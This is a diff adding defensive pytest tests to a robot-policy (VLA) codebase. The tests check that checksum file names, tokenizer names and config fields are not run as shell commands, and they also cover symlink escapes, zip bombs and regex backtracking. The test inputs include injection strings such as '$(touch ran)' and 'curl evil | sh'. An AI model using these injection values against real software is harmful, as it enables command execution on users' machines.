@@ -5,23 +5,30 @@ import os
 import pickle
 import random
 import shutil
+import subprocess
 import time
+import zipfile
+from dataclasses import replace
 from types import SimpleNamespace
 
 import forked
+import numpy as np
 import pytest
 import torch
 import yaml
 from lerobot_writer import write_lerobot
 from openvla_checkpoint import make_checkpoint
 from paths import CONF, GOLDEN
+from PIL import Image
 from safetensors.torch import save_file
 from tiny_policies import SIZES
 
+from recipes.__main__ import main
 from recipes.evaluate import SETTINGS
 from vla_algos.demonstrations.dataset import load_demonstrations
 from vla_algos.files import lock_folder
-from vla_algos.lerobot.dataset import LeRobotFolder
+from vla_algos.lerobot.dataset import LeRobotFolder as DataSet
+from vla_algos.lerobot.frames import FrameReader
 from vla_algos.results import EpisodeResult, as_lines, finished_episodes, read_episodes
 from vla_algos.run import provenance
 from vla_algos.run.arguments import compose_settings
@@ -33,8 +40,9 @@ from vla_algos.run.environments import make_env_spec
 from vla_algos.run.folder import check_folder, note_start, open_folder, settings_of
 from vla_algos.run.logging import RunLogger, entries
 from vla_algos.run.training_env import env_of, evaluation_defaults, save_training_env
-from vla_common.checksums import SUMS, identity, read_checksums, write_checksums
+from vla_common.checksums import SUMS, ChecksumError, identity, read_checksums, verify_checksums, write_checksums
 from vla_common.plain import read_yaml
+from vla_common.tensor_files import load_tensors
 from vla_envs import Episode
 from vla_envs.calvin.chains import published_chains
 from vla_envs.robotwin.world import _read_settings
@@ -42,6 +50,9 @@ from vla_from_rlinf.reading import read_configuration
 from vla_policies import SmallVLA, SmallVLAConfig, load_policy
 from vla_policies.checkpoint.lora import read_rank
 from vla_policies.checkpoint.weights import list_weights
+from vla_policies.lerobot.folder import LeRobotFolder
+from vla_policies.processing.prompts import PromptTokens
+from vla_policies.tiny import make_tiny
 
 SECRET = "nobodys-business"
 FAUCET = {"id": "metaworld/faucet-open-v3", "image_size": 64, "render_quality": "minimal", "num_envs": 1}
@@ -176,8 +187,8 @@ READERS = {  # by the file
     "checkpoints/step_00000001/process_00000.json": lambda folder: open_checkpoint(folder / "step_00000001").of_process(
         0
     ),
-    "lerobot/meta/info.json": LeRobotFolder.read,
-    "lerobot/meta/tasks.jsonl": lambda folder: LeRobotFolder.read(folder).tasks,
+    "lerobot/meta/info.json": DataSet.read,
+    "lerobot/meta/tasks.jsonl": lambda folder: DataSet.read(folder).tasks,
     "demonstrations/dataset.json": load_demonstrations,
     "rlinf/run.yaml": lambda folder: read_configuration(folder / "run.yaml"),
     "robotwin/task_config/demo.yml": read_robotwin,
@@ -373,3 +384,167 @@ def test_dates_and_interpolations_in_yaml_are_texts(tmp_path):
     file.write_text("day: 2025-01-01\nrate: 1.0e-05\nhome: ${oc.env:HOME}\nnone: null\nnames: [a, 'b']\n")
     found = {"day": "2025-01-01", "rate": 1e-05, "home": "${oc.env:HOME}", "none": None, "names": ["a", "b"]}
     assert read_yaml(file) == found
+
+
+# ---- what a user is to type, and sees
+
+
+def type_it(said, after, folder):
+    """Type what a message says."""
+    subprocess.run(["bash", "-c", said.partition(after)[2]], cwd=folder, capture_output=True, env={"PATH": "/bin"})
+    assert not [*folder.rglob("ran*")], said
+
+
+@pytest.mark.parametrize("name", ["x'; touch ran; echo '.json", "x#e touch ran", "x; touch ran; .json", "$(touch ran)"])
+def test_a_name_of_a_strangers_file_is_no_command(name, tmp_path):
+    (tmp_path / "config.json").write_text("{}")
+    write_checksums(tmp_path, ["config.json"])
+    with open(tmp_path / SUMS, "a") as sums:
+        sums.write(f"{'0' * 64}  {name}\n")
+    with pytest.raises(ChecksumError, match="on purpose type: ") as refused:
+        verify_checksums(tmp_path)
+    type_it(str(refused.value), "on purpose type: ", tmp_path)
+    verify_checksums(tmp_path)  # which it has repaired
+    (tmp_path / f"{name}.json").write_text("too many")
+    with pytest.raises(ChecksumError, match="on purpose type: ") as refused:
+        verify_checksums(tmp_path)
+    type_it(str(refused.value), "on purpose type: ", tmp_path)
+    verify_checksums(tmp_path)
+
+
+def test_the_name_of_a_tokenizer_is_no_command(tmp_path):
+    folder = make_tiny("smolvla", str(tmp_path / "tiny"), "tiny")
+    shutil.rmtree(folder / "tokenizer")
+    file = folder / "policy_preprocessor.json"
+    processor = json.loads(file.read_text())
+    step = next(each for each in processor["steps"] if each["registry_name"] == "tokenizer_processor")
+    step["config"]["tokenizer_name"], step["artifacts"] = "x; touch ran #", {"tokenizer_name": "y; touch ran #"}
+    file.write_text(json.dumps(processor))
+    write_checksums(folder, ["config.json"])
+    with pytest.raises(FileNotFoundError, match="type: hf download ") as refused:
+        LeRobotFolder.read(folder, {"smolvla": "smolvla_new_line_processor"})
+    type_it(str(refused.value), "type: ", tmp_path)
+
+
+@pytest.mark.parametrize("found", ["x; touch ran", "../../x", 7, "abc"])
+def test_the_id_that_a_service_gets_is_ours(found, tmp_path):
+    (tmp_path / "run.json").write_text(json.dumps({"wandb_id": found}))
+    own = provenance.run_id(tmp_path, "wandb", new=False)
+    assert len(own) == 8
+    assert own.isalnum()
+    assert provenance.run_id(tmp_path, "wandb", new=False) == own
+
+
+@pytest.mark.parametrize("suite", ["metaworld/MT50\ncurl evil | sh", "${oc.env:FORGED_SECRET}"])
+def test_an_evaluation_has_no_line_of_a_cards_commands(suite, pristine, tmp_path):
+    policy, run = (shutil.copytree(pristine / name, tmp_path / name) for name in ("policy", "run"))
+    settings = yaml.safe_load((run / "config.yaml").read_text())
+    settings["env"]["id"] = suite
+    (run / "config.yaml").write_text(yaml.safe_dump(settings))
+    with pytest.raises(ValueError, match=r"it has line breaks or \$"):
+        write_card(policy, [run])
+
+
+def test_a_terminal_is_told_nothing(pristine, tmp_path, capsys):
+    run = shutil.copytree(pristine / "run", tmp_path / "run")
+    results = [EpisodeResult(Episode(0, n, 7), "t\x1b]0;x\x07\u202e", True, True, 1.0, 9, index=n) for n in range(4)]
+    (run / "episodes.jsonl").write_text(as_lines(results))
+    assert main(["compare", str(run), str(pristine / "run" / "episodes.jsonl")]) == 2
+    said = "".join(capsys.readouterr())
+    assert main(["compare", str(run), str(shutil.copytree(run, tmp_path / "other"))]) == 0
+    said += "".join(capsys.readouterr())
+    assert "t?]0;x??" in said
+    assert said.replace("\n", "").isprintable()
+
+
+# ---- what is written again, and where
+
+
+@pytest.mark.parametrize("name", ["tokenizer/notes.txt", "tokenizer/a.safetensors", "environment.json", "assets"])
+def test_what_a_link_of_a_checkpoint_names_is_not_saved_again(name, tmp_path):
+    folder = make_tiny("smolvla", str(tmp_path / "tiny"), "tiny")
+    (folder / SUMS).unlink(missing_ok=True)
+    (tmp_path / "secret").write_text(SECRET)
+    (folder / name).symlink_to(tmp_path / "secret")
+    with pytest.raises(ValueError, match="is a link out of the checkpoint"):
+        load_policy(folder, benchmark="libero")
+    (folder / name).unlink()
+    cache = tmp_path / "blobs"  # as the hub's client keeps what it has downloaded
+    cache.mkdir()
+    for file in (folder / "tokenizer" / "tokenizer.json", folder / "model.safetensors"):
+        shutil.move(file, cache)
+        file.symlink_to(cache / file.name)
+    (cache / "model.safetensors").rename(tmp_path / "weights")
+    (folder / "model.safetensors").unlink()
+    (folder / "model.safetensors").symlink_to(tmp_path / "weights")
+    load_policy(folder, benchmark="libero")
+
+
+def test_a_copy_of_a_recipe_stays_in_its_folder(tmp_path, capsys):
+    (tmp_path / "mine").mkdir()
+    (tmp_path / "elsewhere").mkdir()
+    for name, target in (("ppo.py", "outside.py"), ("conf", "elsewhere")):
+        (tmp_path / "mine" / name).symlink_to(tmp_path / target)
+        assert main(["copy", "ppo", "--to", str(tmp_path / "mine"), "--force"]) == 2
+        assert "behind a link out of" in capsys.readouterr().err
+        assert not (tmp_path / "outside.py").exists()
+        assert not [*(tmp_path / "elsewhere").iterdir()]
+        (tmp_path / "mine" / name).unlink()
+    assert main(["copy", "ppo", "--to", str(tmp_path / "mine")]) == 0
+
+
+# ---- what is small and becomes large
+
+
+def test_a_packed_file_of_tensors_is_refused(tmp_path):
+    torch.save({"w": torch.zeros(10_000_000)}, tmp_path / "plain.pt")
+    assert load_tensors(tmp_path / "plain.pt")["w"].numel() == 10_000_000
+    with zipfile.ZipFile(tmp_path / "plain.pt") as plain, zipfile.ZipFile(tmp_path / "small.pt", "w", 8) as packed:
+        for entry in plain.infolist():
+            packed.writestr(entry.filename, plain.read(entry))
+    with pytest.raises(ValueError, match="unpacks to more than it has"):
+        load_tensors(tmp_path / "small.pt")
+
+
+def test_numbers_of_a_checkpoint_do_not_keep_it_busy(pristine, tmp_path):
+    policy = shutil.copytree(pristine / "openvla", tmp_path / "openvla")
+    config = json.loads((policy / "config.json").read_text())
+    config["text_config"]["num_hidden_layers"] = 1_000_000
+    (policy / "config.json").write_text(json.dumps(config))
+    (policy / SUMS).unlink()
+    with pytest.raises(ValueError, match="has 1000000 layers, its weights have not"):
+        load_policy(policy)
+
+
+def test_expressions_of_an_adapter_are_matched_at_once(pristine, tmp_path):
+    folder = shutil.copytree(pristine / "adapter", tmp_path / "adapter")
+    config = json.loads((folder / "adapter_config.json").read_text())
+    save_file({"base_model.model.a.q_proj.lora_A.weight": torch.zeros(2, 1)}, folder / "adapter_model.safetensors")
+    for pattern in (r"^language_model\.model\.layers\.0\.q_proj", "q_proj|k_proj"):
+        (folder / "adapter_config.json").write_text(json.dumps({**config, "rank_pattern": {pattern: 2}}))
+        assert read_rank(folder)["lora_rank"] == 4
+    (folder / "adapter_config.json").write_text(json.dumps({**config, "rank_pattern": {"(([a-z_.0-9]+)+)+!": 2}}))
+    with pytest.raises(ValueError, match="not a configuration that peft reads"):
+        read_rank(folder)
+
+
+def test_a_huge_image_of_a_data_set_is_not_decoded(tmp_path, monkeypatch):
+    image = np.zeros((2, 8, 8, 3), np.uint8)
+    episode = {"task": "go", "states": image[:, :4, 0, 0] * 1.0, "actions": image[:, :4, 0, 0] * 1.0}
+    write_lerobot(tmp_path, [{**episode, "images": {"observation.images.top": image}}], version="v2.1")
+    found = DataSet.read(tmp_path)
+    [camera] = found.cameras.values()
+    monkeypatch.setattr(Image.Image, "convert", lambda *_: pytest.fail("it is decoded"))
+    with pytest.raises(ValueError, match=r"has 8 x 8 pixels, meta/info\.json says 4 x 8"):
+        FrameReader(found).read(replace(camera, height=4), np.array([0]))
+
+
+def test_instructions_that_were_heard_once_are_forgotten():
+    class Words(PromptTokens):
+        def tokenize(self, text, listed=False):
+            return [len(text)]
+
+    tokens = Words(1, 0)
+    for number in range(0, 50_000, 5000):
+        assert tokens([f"{each}" for each in range(number, number + 5000)]).shape == (5000, 1)
+    assert len(tokens._cache) <= 20_000
